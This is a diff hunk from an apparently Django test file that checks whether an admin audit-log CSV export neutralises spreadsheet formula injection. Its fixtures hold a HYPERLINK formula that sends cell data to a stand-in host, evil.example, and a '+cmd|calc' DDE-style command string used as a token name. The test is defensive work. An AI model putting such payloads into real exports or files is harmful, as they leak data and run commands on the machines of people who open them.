@@ -227,7 +227,7 @@ def test_the_csv_export_cannot_smuggle_a_spreadsheet_formula(client, admin):
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
     OfficialFactory(username="victim")
     audit_record(Event.LOGIN, username="victim", request=None, note=hostile)
-    token, _raw = services.token_create(official=admin, name="+cmd|calc")
+    services.token_create(official=admin, name="+cmd|calc")
     client.force_login(admin)
     response = client.post(
         reverse("admin:coordination_auditentry_changelist"),
